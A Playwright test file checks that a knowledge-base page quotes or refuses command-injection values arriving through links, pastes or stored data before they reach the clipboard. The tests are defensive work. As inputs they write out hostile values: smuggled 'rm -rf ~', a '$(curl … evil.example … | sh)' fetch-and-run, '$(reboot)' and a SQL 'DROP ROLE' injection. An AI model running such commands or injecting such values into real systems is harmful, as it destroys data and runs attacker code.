import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Locator, type Page } from '@playwright/test';

/**
 * Attacks through values (issue 9): a link or a paste must never put a command the reader did not
 * see onto the clipboard. Each test asserts what the reader sees and the exact clipboard text.
 */
const ENTRY = '/kb/FIX_VALUES_001';
const BUILD_BLOCK = (plain: string, dir: string, image = '__IMAGE_NAME__', free = '__FREE_TEXT__') =>
  `docker build -t ${plain} .\nrm -rf ${dir}\ndocker pull ${image}\necho "${free}"`;

test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

const banner = (page: Page) => page.locator('[data-kb-link-banner]');
const panel = (page: Page) => page.getByRole('region', { name: 'Your values' });
const field = (page: Page, name: string) => panel(page).getByRole('textbox', { name: new RegExp(`^${name}\\b`) });
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const block = (page: Page, lang: string): Locator =>
  page.locator('figure', { has: page.locator('figcaption', { hasText: lang }) }).first();
const copyBlock = async (page: Page, lang = 'bash') => {
  await page.evaluate(() => navigator.clipboard.writeText('(clipboard before)'));
  await block(page, lang).getByRole('button').click();
};
const messageAt = (page: Page, lang = 'bash') => block(page, lang).locator('[data-copy-message]');

test.describe('values from links are proposals and are quoted', () => {
  let pageErrors: string[] = [];
  test.beforeEach(({ page }) => {
    pageErrors = [];
    page.on('pageerror', (error) => pageErrors.push(error.message));
  });
  test.afterEach(() => expect(pageErrors).toEqual([]));

  test('a link with carriage returns: stripped with a visible note, quoted in the copy', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=build%0D%7Brm,-rf,~%7D%0D`);
    await expect(banner(page)).toContainText('This link filled in values');
    await expect(banner(page).locator('li')).toHaveText(
      /^PLAIN = build\{rm,-rf,~\} Removed invisible or control characters \(carriage return\)/,
    );
    await expect(page.locator('[data-var="PLAIN"]').first()).toHaveAttribute('data-filled', 'link');
    await expect(page.locator('[data-var="PLAIN"]').first()).toHaveText('build{rm,-rf,~}');
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'build{rm,-rf,~}'", '__TARGET_DIR__'));
    await expect(messageAt(page)).toContainText('not filled in: TARGET_DIR, IMAGE_NAME, FREE_TEXT');
  });

  test('a link with a line feed cannot add a second command', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=x%0Arm%20-rf%20~`);
    await expect(banner(page).locator('li')).toContainText('PLAIN = xrm -rf ~');
    await expect(banner(page).locator('li')).toContainText('line break');
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'xrm -rf ~'", '__TARGET_DIR__'));
  });

  test('~ and * are flagged and quoted, for bash and for PowerShell', async ({ page }) => {
    await page.goto(`${ENTRY}?TARGET_DIR=~`);
    await expect(banner(page).locator('li')).toContainText('Contains shell characters (~)');
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK('__PLAIN__', "'~'"));
    await copyBlock(page, 'powershell');
    expect(await clipboard(page)).toBe("Remove-Item -Recurse '~'");
    await page.goto(`${ENTRY}?TARGET_DIR=*`);
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK('__PLAIN__', "'*'"));
  });

  test('$(...) in an image name fails its format: not copied, and the button says why', async ({ page }) => {
    await page.goto(`${ENTRY}?IMAGE_NAME=alpine%20%24(curl%20-s%20evil.example%2Fx.sh%20%7C%20sh)`);
    await expect(banner(page).locator('li')).toContainText('IMAGE_NAME = alpine $(curl -s evil.example/x.sh | sh)');
    await copyBlock(page);
    await expect(messageAt(page)).toHaveText(
      'Not copied: IMAGE_NAME is not in the expected format. Fix it under Your values.',
    );
    await expect(block(page, 'bash').getByRole('button')).toHaveText('Not copied');
    expect(await clipboard(page)).toBe('(clipboard before)');
    // A block that does not use the bad value still copies.
    await copyBlock(page, 'powershell');
    expect(await clipboard(page)).toBe('Remove-Item -Recurse __TARGET_DIR__');
  });

  test('backticks are quoted, typed or linked', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=%60id%60`);
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'`id`'", '__TARGET_DIR__'));
    await field(page, 'FREE_TEXT').fill('a!b');
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'`id`'", '__TARGET_DIR__', '__IMAGE_NAME__', `"'a!b'"`));
  });

  test('a value that a SQL block would read as code is not copied there, and the button says why', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=${encodeURIComponent('ops; DROP ROLE admin; --')}`);
    await expect(banner(page).locator('li')).toContainText('PLAIN = ops; DROP ROLE admin; --');
    await copyBlock(page, 'sql');
    await expect(messageAt(page, 'sql')).toHaveText(
      'Not copied: PLAIN holds a semicolon (;), which a sql block could read as code (values go into it as typed). Change it under Your values, or clear it to copy __PLAIN__ as written.',
    );
    expect(await clipboard(page)).toBe('(clipboard before)');
    // The shell block quotes the same value and copies it.
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'ops; DROP ROLE admin; --'", '__TARGET_DIR__'));
    // A plain value goes into the SQL block as typed.
    await page.goto(`${ENTRY}?PLAIN=ops_reader`);
    await copyBlock(page, 'sql');
    expect(await clipboard(page)).toBe('CREATE ROLE ops_reader LOGIN;');
  });

  test('a typed value failing its pattern is not copied', async ({ page }) => {
    await page.goto(ENTRY);
    await field(page, 'FREE_TEXT').fill('ABC');
    await expect(field(page, 'FREE_TEXT')).toHaveAttribute('aria-invalid', 'true');
    await copyBlock(page);
    await expect(messageAt(page)).toHaveText(/^Not copied: FREE_TEXT/);
    expect(await clipboard(page)).toBe('(clipboard before)');
  });

  test('a link value is not saved by editing another field; it is saved only when kept', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=%24(reboot)`);
    await field(page, 'TARGET_DIR').fill('build');
    await page.goto(ENTRY);
    await expect(banner(page)).toHaveCount(0);
    await expect(field(page, 'PLAIN')).toHaveValue('');
    await expect(field(page, 'TARGET_DIR')).toHaveValue('build');
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK('__PLAIN__', 'build'));

    await page.goto(`${ENTRY}?PLAIN=web`);
    await banner(page).getByRole('button', { name: 'Keep this value' }).click();
    await expect(banner(page)).toHaveCount(0);
    await expect(page.locator('[data-var="PLAIN"]').first()).toHaveAttribute('data-filled', 'true');
    await page.goto(ENTRY);
    await expect(field(page, 'PLAIN')).toHaveValue('web');

    await page.goto(`${ENTRY}?PLAIN=other`);
    await banner(page).getByRole('button', { name: 'Discard' }).click();
    await expect(field(page, 'PLAIN')).toHaveValue('web');
  });

  test('values from a pasted log say so', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=api&src=log`);
    await expect(banner(page).getByRole('heading')).toHaveText('Values taken from the log you pasted');
    await expect(banner(page)).toContainText('They came from the log you pasted');
  });

  test('on a phone the refusal shows at the button, in view', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${ENTRY}?IMAGE_NAME=alpine%20%24(id)`);
    await expect(banner(page)).toBeInViewport();
    await block(page, 'bash').scrollIntoViewIfNeeded();
    await copyBlock(page);
    await expect(messageAt(page)).toBeInViewport();
    await expect(messageAt(page)).toHaveText(/^Not copied: IMAGE_NAME/);
    expect(await clipboard(page)).toBe('(clipboard before)');
  });

  test('an injected value already stored from an earlier visit is cleaned and quoted', async ({ page }) => {
    await page.goto(ENTRY);
    await page.evaluate(() =>
      localStorage.setItem('kb:variables', JSON.stringify({ PLAIN: 'build\r$(reboot)\u202e', TARGET_DIR: '~' })),
    );
    await page.goto(ENTRY);
    await expect(banner(page)).toHaveCount(0);
    await expect(field(page, 'PLAIN')).toHaveValue('build$(reboot)');
    await expect(field(page, 'PLAIN')).toHaveAccessibleDescription(/Contains shell characters \(\$ \( \)\)/);
    await copyBlock(page);
    expect(await clipboard(page)).toBe(BUILD_BLOCK("'build$(reboot)'", "'~'"));
  });

  test('each keystroke stays under 50 ms with a 10,000-character value', async ({ page }) => {
    await page.goto(ENTRY);
    const input = field(page, 'FREE_TEXT');
    // The same keystrokes with a short value first: on a loaded machine (CI runs two browsers beside three servers)
    // every keystroke waits longer, so the long value is held to the target or to three times the short one.
    await input.fill('a');
    const short = await keystrokeTimes(input);
    await input.fill('a'.repeat(10_000));
    await expect(input).toHaveAttribute('aria-invalid', 'true'); // too long to check: refused, never run
    await page.evaluate(() => {
      const w = window as unknown as { kbEvents: number[] };
      w.kbEvents = [];
      new PerformanceObserver((list) => {
        for (const e of list.getEntries())
          if (e.name === 'keydown' || e.name === 'keyup' || e.name === 'keypress') w.kbEvents.push(e.duration);
      }).observe({ type: 'event', durationThreshold: 16, buffered: false } as PerformanceObserverInit);
    });
    const times = await keystrokeTimes(input);
    await page.keyboard.press('End');
    for (let i = 0; i < 5; i++) await input.press('!');
    await expect(input).toHaveValue(`${'a'.repeat(10_010)}!!!!!`);
    const slowEvents = await page.evaluate(() => (window as unknown as { kbEvents: number[] }).kbEvents);
    test.info().annotations.push({ type: 'keystroke ms', description: times.map((t) => t.toFixed(1)).join(', ') });
    test.info().annotations.push({
      type: 'keystroke ms, short value',
      description: short.map((t) => t.toFixed(1)).join(', '),
    });
    // The median keystroke must stay under 50 ms (or three times a short value's, when the machine is loaded); single
    // ones may wait on a loaded machine's CPU, so they get a blow-up bound (an unbounded check took 228 ms per
    // keystroke; see docs/security.md).
    expect(median(times)).toBeLessThan(Math.max(50, 3 * median(short)));
    expect(Math.max(...times)).toBeLessThan(250);
    test.info().annotations.push({
      type: 'slow key events (ms)',
      description: slowEvents.map((d) => d.toFixed(0)).join(', ') || 'none',
    });
  });

  test('the banner passes axe', async ({ page }) => {
    await page.goto(`${ENTRY}?PLAIN=api&TARGET_DIR=~`);
    await expect(banner(page)).toBeVisible();
    const results = await new AxeBuilder({ page }).include('[data-kb-link-banner]').analyze();
    expect(results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')).toEqual([]);
  });
});

const median = (xs: readonly number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];

/** Ten keystrokes typed at the end of `input`, each timed until the frame after it: what a reader waits per key. */
async function keystrokeTimes(input: Locator): Promise<number[]> {
  const times: number[] = [];
  for (let i = 0; i < 10; i++) {
    const took = await input.evaluate(async (el) => {
      const start = performance.now();
      el.dispatchEvent(new KeyboardEvent('keydown', { key: 'a', bubbles: true }));
      const target = el as HTMLInputElement;
      const setter = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!.set!;
      setter.call(target, `${target.value}a`);
      target.dispatchEvent(new Event('input', { bubbles: true }));
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
      return performance.now() - start;
    });
    times.push(took);
  }
  return times;
}
